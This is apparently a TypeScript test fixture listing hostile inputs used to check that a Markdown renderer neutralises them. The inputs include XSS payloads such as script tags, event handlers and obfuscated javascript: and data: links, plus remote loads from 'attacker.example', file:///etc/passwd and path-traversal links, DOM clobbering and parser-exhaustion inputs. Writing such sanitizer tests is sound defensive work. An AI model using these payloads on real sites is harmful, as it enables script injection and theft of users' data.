/** What somebody might put into a text so that a program that reads it does more than read it. */
export interface Attack {
  name: string;
  /** Markdown, or bytes. */
  text: string | number[];
  /** Words that are to be seen on the page. */
  shows?: string;
  /** The sentence with which the file is refused. */
  refusedWith?: RegExp;
  /** Shown as its source, since it cannot be read as Markdown. */
  isSource?: boolean;
  file?: string;
}

/** Sets the canary of the test, if it is ever run. */
const run = `(window.__ran=1,top.__ran=1)`;
const far = 'https://attacker.example';

const links = (href: string) =>
  [
    `[inline](${href})`,
    `[angle](<${href}>)`,
    `[titled](${href} "x")`,
    `[reference][r]`,
    `![image](${href})`,
    `[![both](${href})](${href})`,
    `<${href}>`,
    ``,
    `[r]: ${href}`,
  ].join('\n\n');

export const attacks: Attack[] = [
  {
    name: 'a script element',
    text: `words <script>${run}</script>\n\n<script>${run}</script>`,
    shows: '<script>',
  },
  {
    name: 'a script of another host',
    text: `<script src="${far}/x.js"></script>\n\nwords`,
    shows: 'x.js',
  },
  {
    name: 'a module script',
    text: `<script type="module">import "${far}/x.js"</script>`,
    shows: 'module',
  },
  {
    name: 'a script cut by a paragraph',
    text: `<scr\n\n<script>ipt>${run}</script>`,
    shows: 'ipt>',
  },
  {
    name: 'event handlers of a picture',
    text: `a <img src=x onerror="${run}" onload="${run}"> b`,
    shows: 'onerror',
  },
  {
    name: 'event handlers of a body',
    text: `<body onload="${run}" onpageshow="${run}">words</body>`,
    shows: 'onpageshow',
  },
  {
    name: 'an element that takes the focus by itself',
    text: `<input autofocus onfocus="${run}">`,
    shows: 'autofocus',
  },
  { name: 'javascript: in all forms of a link', text: links(`javascript:${run}`), shows: 'inline' },
  { name: 'JaVaScRiPt: in mixed letters', text: links(`JaVaScRiPt:${run}`), shows: 'inline' },
  {
    name: 'javascript: with entities',
    text: links(`java&#115;cript&colon;${run}`),
    shows: 'inline',
  },
  { name: 'javascript: in percent signs', text: links('%6Aavascript%3Aalert(1)'), shows: 'inline' },
  {
    name: 'javascript: behind white space',
    text: links(`<\u0001 \tjava\tscript:${run}>`),
    shows: 'angle',
  },
  {
    name: 'javascript: behind a view-source:',
    text: links(`view-source:javascript:${run}`),
    shows: 'inline',
  },
  {
    name: 'data: addresses',
    text: links(`data:text/html,<script>${run}</script>`),
    shows: 'inline',
  },
  {
    name: 'data: addresses in base64',
    text: links('data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg=='),
    shows: 'inline',
  },
  { name: 'vbscript: addresses', text: links('vbscript:msgbox(1)'), shows: 'inline' },
  {
    name: 'blob: and filesystem: addresses',
    text: links('blob:app://bundle/1') + links('filesystem:app://bundle/x'),
    shows: 'inline',
  },
  { name: 'file: addresses', text: links('file:///etc/passwd'), shows: 'inline' },
  { name: 'the page’s own address', text: links('app://bundle/index.html'), shows: 'inline' },
  {
    name: 'a way out of the certificates’ folder',
    text: links('app://att/..%2f..%2fetc/passwd'),
    shows: 'inline',
  },
  {
    name: 'addresses without a scheme',
    text: links('//attacker.example/x') + links('\\\\attacker.example\\x'),
    shows: 'inline',
  },
  {
    name: 'addresses of programs',
    text: links('ms-msdt:/id') + links('smb://attacker.example/x'),
    shows: 'inline',
  },
  {
    name: 'mail with headers',
    text: `[write](mailto:a@b.example?bcc=${far}&body=x%0d%0aBcc:y)`,
    shows: 'write',
  },
  { name: 'links of the program’s own', text: links('almanac:settings'), shows: 'inline' },
  {
    name: 'an anchor into another window',
    text: `<a href="${far}" target="_blank" ping="${far}/p">go</a>`,
    shows: '_blank',
  },
  {
    name: 'a title that ends its attribute',
    text: `[go](${far} "x\\" onmouseover=\\"${run}")`,
    shows: 'go',
  },
  {
    name: 'an iframe',
    text: `<iframe src="${far}" srcdoc="<script>${run}</script>"></iframe>`,
    shows: 'srcdoc',
  },
  {
    name: 'object, embed and applet',
    text: `<object data="${far}"></object>\n\n<embed src="${far}">\n\n<applet code=x></applet>`,
    shows: 'applet',
  },
  { name: 'a frameset', text: `<frameset><frame src="${far}"></frameset>`, shows: 'frameset' },
  {
    name: 'svg with a script',
    text: `<svg onload="${run}"><script>${run}</script></svg>`,
    shows: 'svg',
  },
  {
    name: 'svg that uses another file',
    text: `<svg><use href="${far}/x.svg#a"/><image href="${far}/y.png"/></svg>`,
    shows: 'use href',
  },
  {
    name: 'svg that animates an address',
    text: `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
    shows: 'animate',
  },
  {
    name: 'svg with foreign content',
    text: `<svg><foreignObject><body onload="${run}"></body></foreignObject></svg>`,
    shows: 'foreignObject',
  },
  {
    name: 'math',
    text: `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
    shows: 'maction',
  },
  {
    name: 'markup that browsers read in another way',
    text: `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    shows: 'mglyph',
  },
  {
    name: 'a style element',
    text: `<style>body{display:none}*{background:url(${far}/c)}</style>\n\nwords`,
    shows: 'display:none',
  },
  { name: 'an imported style', text: `<style>@import "${far}/x.css";</style>`, shows: '@import' },
  {
    name: 'a style attribute',
    text: `<p style="position:fixed;inset:0;background:url(${far}/b)">over all</p>`,
    shows: 'over all',
  },
  {
    name: 'a linked style, prefetch and preconnect',
    text: `<link rel=stylesheet href="${far}/x.css"><link rel=prefetch href="${far}"><link rel=preconnect href="${far}">`,
    shows: 'prefetch',
  },
  {
    name: 'meta refresh',
    text: `<meta http-equiv="refresh" content="0;url=${far}">`,
    shows: 'refresh',
  },
  {
    name: 'a policy of its own',
    text: `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    shows: 'script-src',
  },
  {
    name: 'base',
    text: `<base href="${far}/">\n\n[relative](x.md) and [section](#nowhere)`,
    shows: 'relative',
  },
  {
    name: 'a form',
    text: `<form action="${far}"><input name=a><button formaction="javascript:${run}">Send</button></form>`,
    shows: 'formaction',
  },
  {
    name: 'a template',
    text: `<template><script>${run}</script></template><slot></slot>`,
    shows: 'template',
  },
  {
    name: 'a custom element',
    text: `<x-y onclick="${run}"><is-z is="script">a</is-z></x-y>`,
    shows: 'x-y',
  },
  {
    name: 'a dialog over all',
    text: `<dialog open>words</dialog><div popover>w</div>`,
    shows: 'popover',
  },
  {
    name: 'remote pictures of Markdown',
    text: `![one](${far}/1.png) ![two][p]\n\n[p]: ${far}/2.png`,
    shows: 'one',
  },
  {
    name: 'remote pictures of HTML',
    text: `<img src="${far}/1.png" srcset="${far}/2.png 2x"><picture><source srcset="${far}/3.png"></picture>`,
    shows: 'srcset',
  },
  {
    name: 'video, audio and track',
    text: `<video src="${far}/v" poster="${far}/p" autoplay></video><audio src="${far}/a"><track src="${far}/t"></audio>`,
    shows: 'poster',
  },
  {
    name: 'details that open',
    text: `<details open ontoggle="${run}"><summary>s</summary>words</details>`,
    shows: 'ontoggle',
  },
  { name: 'a marquee', text: `<marquee onstart="${run}">words</marquee>`, shows: 'onstart' },
  {
    name: 'braces of templates',
    text: `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
    shows: '{{constructor',
  },
  {
    name: 'marks of Svelte',
    text: `{@html '<img src=x onerror=${run}>'} {#if true}{/if} {@const a=${run}}`,
    shows: '{@html',
  },
  {
    name: 'comments, CDATA and a doctype',
    text: `<!-- --!><script>${run}</script> -->\n\n<![CDATA[<script>${run}</script>]]>\n\n<!DOCTYPE x>`,
    shows: 'CDATA',
  },
  {
    name: 'headings that are names of prototypes',
    text: '# __proto__\n\n## constructor\n\n## toString\n\n## hasOwnProperty\n\n## __proto__\n\nwords',
    shows: 'hasOwnProperty',
  },
  {
    name: 'headings that are names of the document',
    text: '# cookie\n\n## body\n\n## app\n\n## content\n\n## guide-panel\n\n## getElementById',
    shows: 'guide-panel',
  },
  {
    name: 'elements that hide the document’s own',
    text: `<form id=document><input name=getElementById><input name=attributes></form><img name=body><a id=almanac>`,
    shows: 'getElementById',
  },
  {
    name: 'source numbers of the guide',
    text: '[^1] [^certification] [note](#note-1) [source](#source-1)\n\n[^1]: word',
    shows: '[^1]',
  },
  {
    name: 'characters that turn the text around',
    text: '# a\u202Egpj.exe\n\nwords \u2066\u202E\u2069 \u200F more words',
    shows: 'more words',
  },
  {
    name: 'characters that are none',
    text: 'before \uFFFF \u0007 \u001B[31m \u200B\uFEFF words',
    shows: 'words',
  },
  {
    name: 'a null byte',
    text: 'before\0after words',
    refusedWith: /is not a text that can be read/,
  },
  {
    name: 'front matter with code',
    text: `---js\n{ title: ${run} }\n---\n\n---\ntitle: !!js/function >\n  ${run}\n---\nwords`,
    shows: 'words',
  },
  {
    name: 'front matter that grows',
    text: `---\na: &a ["x","x"]\n${'b: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n'.repeat(50)}---\nwords`,
    shows: 'words',
  },
  {
    name: 'entities that grow',
    text: `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>\n\n${'&amp;&lt;&gt;'.repeat(3000)} words`,
    shows: 'ENTITY',
  },
  {
    name: 'a heading of 100,000 letters',
    text: `# ${'long '.repeat(20_000)}\n\nwords`,
    shows: 'long long',
  },
  {
    name: 'a link of 100,000 letters',
    text: `[go](${far}/${'a'.repeat(100_000)}) words`,
    shows: 'words',
  },
  { name: 'a line of two megabytes', text: `${'a'.repeat(2_000_000)} end`, shows: 'aaaa' },
  {
    name: '5,000 quotes in each other',
    text: `${'>'.repeat(5000)} words`,
    shows: '>>>',
    isSource: true,
  },
  {
    name: '1,400 lists in each other, two megabytes',
    text: Array.from({ length: 1400 }, (_, at) => `${'  '.repeat(at)}- a`).join('\n'),
    shows: 'a',
    isSource: true,
  },
  { name: '20,000 open brackets', text: `${'['.repeat(20_000)} words`, shows: '[[[' },
  { name: '20,000 open emphases', text: `${'**a *b '.repeat(10_000)} words`, shows: 'a' },
  {
    name: '20,000 cells',
    text: `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${`|${'b|'.repeat(500)}\n`.repeat(40)}`,
    shows: 'b',
  },
  { name: '20,000 headings', text: '# h\n'.repeat(20_000), shows: 'h' },
  {
    name: 'runs of backticks that grow, two megabytes',
    text: backticks(2_000_000),
    shows: '`',
  },
  {
    name: 'bytes that are no UTF-8',
    text: [0x23, 0x20, 0xc3, 0x28, 0xff, 0xfe, 0x0a],
    refusedWith: /is not a text that can be read/,
  },
  {
    name: 'UTF-16',
    text: [0xff, 0xfe, 0x23, 0x00, 0x20, 0x00, 0x61, 0x00],
    refusedWith: /is not a text that can be read/,
  },
  {
    name: 'a page named as what it is',
    text: `<script>${run}</script>`,
    file: 'page.html',
    refusedWith: /is not a text that can be read/,
  },
  {
    name: 'a name that leads elsewhere',
    text: '# words',
    file: '..\\..\\..\\evil.md',
    shows: 'words',
  },
  {
    name: 'a name that is markup',
    text: '# words',
    file: '<img src=x onerror=alert(1)>.md',
    shows: 'words',
  },
  {
    name: 'more than ten megabytes',
    text: 'a'.repeat(10 * 1024 * 1024 + 1),
    refusedWith: /larger than 10 MB/,
  },
];

function backticks(length: number): string {
  let text = '';
  for (let run = 1; text.length < length; run += 1) text += `${'`'.repeat(run)} `;
  return text.slice(0, length);
}
